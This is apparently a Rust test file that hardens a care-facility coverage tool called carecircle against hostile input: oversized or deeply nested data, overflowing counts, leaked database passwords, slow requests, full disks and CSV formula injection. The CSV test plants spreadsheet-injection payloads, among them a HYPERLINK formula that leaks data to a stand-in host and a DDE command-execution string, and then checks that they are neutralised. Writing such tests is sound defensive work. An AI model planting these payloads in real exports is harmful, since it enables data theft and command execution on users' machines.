//! Hostile files and arguments: each is refused with a message, never a panic, an abort or unbounded
//! memory (issue "Hardening"). The bounds are `carecircle::limits`, listed in the README's safety section.

mod common;
use common::{carecircle, start_server};
use std::path::Path;
use std::process::Command;

/// The demo copied into `dir`, for editing one file of it.
fn demo_copy(dir: &Path) {
    for entry in std::fs::read_dir("geodata/demo").unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), dir.join(entry.file_name())).unwrap();
    }
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn a_wkt_cell_nested_100_000_deep_is_a_problem_not_a_stack_overflow() {
    let tmp = tempfile::tempdir().unwrap();
    demo_copy(tmp.path());
    std::fs::remove_file(tmp.path().join("facilities.geojson")).unwrap();
    let deep = format!("GEOMETRYCOLLECTION{}{}", "(".repeat(100_000), ")".repeat(100_000));
    let csv = format!(
        "id,name,tier,floor_area_m2,status,wkt\nF1,站,station,200,operating,\"POINT (119.45 25.99)\"\nF2,深,station,200,operating,\"{deep}\"\n"
    );
    std::fs::write(tmp.path().join("facilities.csv"), csv).unwrap();
    let out = carecircle(&["validate", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("parentheses deep"), "{}", stderr(&out));
}

#[test]
fn an_id_of_a_mebibyte_is_refused_with_its_feature_named() {
    let tmp = tempfile::tempdir().unwrap();
    demo_copy(tmp.path());
    let path = tmp.path().join("facilities.geojson");
    let mut layer: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    layer["features"][3]["properties"]["id"] = "站".repeat(1 << 20).into();
    layer["features"][5]["properties"]["name"] = "名".repeat(40_000).into();
    std::fs::write(&path, serde_json::to_vec(&layer).unwrap()).unwrap();
    let out = carecircle(&["validate", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("1048576 characters") && err.contains("at most 200"),
        "{err}"
    );
    assert!(err.contains("40000 characters") && err.contains("at most 500"), "{err}");
    assert!(err.len() < 10_000, "the message quotes the start, not the whole id");
}

#[test]
fn endless_small_files_are_refused_after_their_bound() {
    let tmp = tempfile::tempdir().unwrap();
    demo_copy(tmp.path());
    std::fs::remove_file(tmp.path().join("dataset.toml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", tmp.path().join("dataset.toml")).unwrap();
    let out = carecircle(&["validate", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("larger than carecircle reads (4 MiB)"),
        "{}",
        stderr(&out)
    );

    let out = carecircle(&["check", "geodata/demo", "--rules", "/dev/zero"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("4 MiB"), "{}", stderr(&out));

    let out = carecircle(&[
        "map",
        "geodata/demo",
        "--rules",
        "rules/mawei-2020.toml",
        "--font",
        "/dev/zero",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("128 MiB"), "{}", stderr(&out));
}

#[test]
fn synthetic_cities_are_bounded() {
    let tmp = tempfile::tempdir().unwrap();
    let out = carecircle(&["synth", "--areas", "10000000000", "--out", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("10000000"), "{}", stderr(&out));
    let out = carecircle(&["bench", "--facilities", "2000000"]);
    assert_eq!(out.status.code(), Some(2));
}

/// Counts past the documented maximum are refused at load, so no pool's sum can wrap to 0 and pass.
#[test]
fn counts_are_bounded_so_sums_cannot_overflow() {
    let tmp = tempfile::tempdir().unwrap();
    demo_copy(tmp.path());
    let path = tmp.path().join("residential_areas.geojson");
    let mut layer: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    for i in [0, 1] {
        layer["features"][i]["properties"]["households"] = serde_json::json!(9223372036854775808u64);
    }
    std::fs::write(&path, serde_json::to_vec(&layer).unwrap()).unwrap();
    let out = carecircle(&["check", tmp.path().to_str().unwrap(), "--rules", "rules/anxi-2022.toml"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("an integer from 1 to 2000000000"),
        "{}",
        stderr(&out)
    );

    let plan = tmp.path().join("plan.toml");
    std::fs::write(
        &plan,
        "[[target]]\nname = \"beds\"\ntotal = 9223372036854775807\n[[unit]]\nname = \"a\"\nweight = 1\n[[unit]]\nname = \"b\"\nweight = 1\n",
    )
    .unwrap();
    let out = carecircle(&["allocate", plan.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("from 0 to 1000000000000"), "{}", stderr(&out));
}

/// The same minimum token length from the environment as from a file, and a database URL's password is
/// never printed; a refused port fails at once.
#[test]
fn credentials_are_held_to_one_rule_and_never_printed() {
    let tmp = tempfile::tempdir().unwrap();
    let serve = |env: &[(&str, &str)], args: &[&str]| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_carecircle"));
        cmd.arg("serve")
            .args(args)
            .args(["--state-dir", tmp.path().to_str().unwrap()])
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .env_remove("DATABASE_URL")
            .env_remove("CARECIRCLE_TOKEN");
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().unwrap()
    };
    let out = serve(&[("CARECIRCLE_TOKEN", "short")], &["--bind", "0.0.0.0:0"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("CARECIRCLE_TOKEN: the token must be at least 16"),
        "{}",
        stderr(&out)
    );

    let out = serve(
        &[(
            "DATABASE_URL",
            "postgres://auditor:hunter2-secret@127.0.0.1:1/carecircle",
        )],
        &[],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(!err.contains("hunter2"), "{err}");
    assert!(err.contains("postgres://auditor:***@127.0.0.1:1/carecircle"), "{err}");
    // The reason itself, from one direct attempt, not the pool's "timed out" ten seconds later.
    assert!(err.contains("refused") && !err.contains("timed out"), "{err}");
}

/// SIGTERM stops a running server: it stops accepting and exits 0.
#[test]
fn sigterm_stops_the_server_cleanly() {
    let state = tempfile::tempdir().unwrap();
    let (mut server, port) = start_server(state.path(), Path::new(env!("CARGO_MANIFEST_DIR")));
    // Running: it has answered. (Its port accepts connections a moment before actix takes over
    // SIGTERM; a signal in that moment ends it as any process, which a loaded CI machine once showed.)
    assert!(common::http(port, "GET", "/conformance", None).starts_with("HTTP/1.1 200"));
    // SAFETY: sending a signal to the child we started.
    assert_eq!(unsafe { libc::kill(server.id() as i32, libc::SIGTERM) }, 0);
    let status = server.wait().unwrap();
    assert!(status.success(), "{status:?}");
}

/// A body that never finishes arriving is answered 408 after the documented wait, not held for ever.
#[test]
fn a_trickling_body_times_out() {
    use std::io::{Read, Write};
    let state = tempfile::tempdir().unwrap();
    let (mut server, port) = start_server(state.path(), Path::new(env!("CARGO_MANIFEST_DIR")));
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .write_all(b"POST /review HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"data")
        .unwrap();
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(
            carecircle::limits::BODY_SECONDS + 30,
        )))
        .unwrap();
    let mut answer = [0u8; 64];
    let n = stream.read(&mut answer).unwrap();
    let head = String::from_utf8_lossy(&answer[..n]).into_owned();
    let _ = server.kill();
    let _ = server.wait();
    assert!(head.starts_with("HTTP/1.1 408"), "{head}");
}

/// A state directory that cannot be written stops the server at start, not at the first check; text
/// past Excel's cell limit cannot reach a workbook (ruleset texts are bounded, cells are cut visibly).
#[test]
fn outputs_and_state_are_checked_before_they_fail() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("a-file");
    std::fs::write(&file, "not a folder").unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_carecircle"))
        .args(["serve", "--state-dir"])
        .arg(file.join("state"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("a-file"), "{}", stderr(&out));

    // A basemap template the web app could not use stops the server at start, saying what is missing.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_carecircle"))
        .args(["serve", "--basemap", "https://t0.example/{z}/{x}.png", "--state-dir"])
        .arg(tmp.path().join("state"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env_remove("DATABASE_URL")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("--basemap") && stderr(&out).contains("{y}"),
        "{}",
        stderr(&out)
    );

    let rules = tmp.path().join("long.toml");
    let text = std::fs::read_to_string("rules/mawei-2020.toml").unwrap();
    let long = text.replacen("quote = \"", &format!("quote = \"{}", "长".repeat(40_000)), 1);
    std::fs::write(&rules, long).unwrap();
    let out = carecircle(&["check", "geodata/demo", "--rules", rules.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("at most 2000"), "{}", stderr(&out));
}

/// Every CSV carecircle writes is safe to open in Excel: the names of a dataset whose every name is a
/// formula (`=HYPERLINK(…)`, `+SUM(…)`, `-2+3`, `@cmd`, a leading tab) reach findings.csv, summary.csv,
/// ledger.csv, the comparison, sites.csv, access.csv, streets.csv and the allocation as text with a
/// leading `'`, and no cell anywhere starts a formula; plain numbers stay numbers.
#[test]
fn no_csv_cell_is_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    demo_copy(&data);
    let prefixes = [
        "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\") ",
        "+SUM(A1:A9) ",
        "-2+3 ",
        "@cmd ",
        "\t",
    ];
    for layer in ["admin_units", "residential_areas", "facilities", "candidates"] {
        let path = data.join(format!("{layer}.geojson"));
        let mut doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        for (k, f) in doc["features"].as_array_mut().unwrap().iter_mut().enumerate() {
            if let Some(name) = f["properties"]["name"].as_str() {
                f["properties"]["name"] = format!("{}{name}", prefixes[k % prefixes.len()]).into();
            }
        }
        std::fs::write(&path, serde_json::to_vec(&doc).unwrap()).unwrap();
    }
    let d = data.to_str().unwrap();
    let out = |name: &str| dir.path().join(name).to_str().unwrap().to_string();
    let mut csvs: Vec<(String, Vec<u8>)> = Vec::new();
    let run = |args: &[&str]| {
        let o = carecircle(args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        o.stdout
    };
    run(&[
        "check",
        d,
        "--rules",
        "anxi-2022",
        "mawei-2020",
        "--by",
        "community",
        "--no-maps",
        "--out",
        &out("new"),
    ]);
    run(&[
        "check",
        d,
        "--rules",
        "anxi-2022",
        "mawei-2020",
        "--as-of",
        "2021-12-31",
        "--no-maps",
        "--out",
        &out("old"),
    ]);
    for file in ["findings.csv", "summary.csv", "ledger.csv"] {
        csvs.push((file.into(), std::fs::read(dir.path().join("new").join(file)).unwrap()));
    }
    csvs.push((
        "compare".into(),
        run(&[
            "compare",
            &out("old"),
            &out("new"),
            "--by",
            "community",
            "--format",
            "csv",
        ]),
    ));
    run(&common::site_anxi(d, &["--add", "3", "--out", &out("site")]));
    csvs.push((
        "sites.csv".into(),
        std::fs::read(dir.path().join("site/sites.csv")).unwrap(),
    ));
    run(&[
        "access",
        d,
        "--rules",
        "anxi-2022",
        "--rule",
        "anxi-2022/service-radius",
        "--out",
        &out("access"),
    ]);
    for file in ["access.csv", "streets.csv"] {
        csvs.push((
            file.into(),
            std::fs::read(dir.path().join("access").join(file)).unwrap(),
        ));
    }
    let plan = std::fs::read_to_string("rules/fuzhou-2021-targets.toml")
        .unwrap()
        .replace("\"urban\"", "\"=cmd|' /C calc'!A0\"");
    let plan_file = dir.path().join("plan.toml");
    std::fs::write(&plan_file, plan).unwrap();
    csvs.push((
        "allocation".into(),
        run(&["allocate", plan_file.to_str().unwrap(), "--format", "csv"]),
    ));

    let plain_number = |c: &str| c.trim_start_matches(['+', '-']).parse::<f64>().is_ok() && !c.contains(['e', 'E']);
    let mut neutralised = 0;
    for (what, bytes) in &csvs {
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(text.starts_with('\u{feff}'), "{what} starts with a byte-order mark");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number(cell),
                    "{what}: the cell {cell:?} would be a formula in Excel"
                );
                if cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@") || cell.starts_with("'\t")
                {
                    neutralised += 1;
                }
            }
        }
        assert!(cells > 3, "{what} has cells");
    }
    // The names did reach the files (else the test proves nothing).
    assert!(neutralised > 50, "{neutralised} neutralised cells");
}

/// A full disk under the state directory: `POST /checks` answers 507 naming the run that was not kept,
/// never a path of the server's; nothing half-written is left or listed. The disk is a 256 KiB tmpfs
/// (mounting needs root, as the tests run here and in CI).
#[test]
fn a_full_disk_is_507_with_the_run_named_and_no_path() {
    let state = tempfile::tempdir().unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"])
        .arg(state.path())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        assert!(
            std::env::var("CI").is_err(),
            "mounting a small tmpfs needs root, which CI has"
        );
        eprintln!("\n*** SKIPPED: cannot mount a tmpfs here (not root); the full-disk test did not run ***\n");
        return;
    }
    struct Unmount<'a>(&'a Path);
    impl Drop for Unmount<'_> {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(self.0).status();
        }
    }
    let _unmount = Unmount(state.path());
    let (mut server, port) = start_server(state.path(), env!("CARGO_MANIFEST_DIR").as_ref());
    let answer = common::http(port, "POST", "/checks", Some(r#"{"dataset":"demo"}"#));
    let listed = common::http(port, "GET", "/checks", None);
    let _ = server.kill();
    let _ = server.wait();
    assert!(answer.starts_with("HTTP/1.1 507"), "{answer}");
    let body = &answer[answer.find("\r\n\r\n").unwrap() + 4..];
    assert!(body.contains("run 1") && body.contains("full"), "{body}");
    assert!(!body.contains(&state.path().display().to_string()), "no path: {body}");
    assert!(listed.ends_with("{\"checks\":[]}"), "{listed}");
    let runs: Vec<_> = std::fs::read_dir(state.path().join("runs"))
        .unwrap()
        .flatten()
        .collect();
    assert!(runs.is_empty(), "nothing half-written: {runs:?}");
}
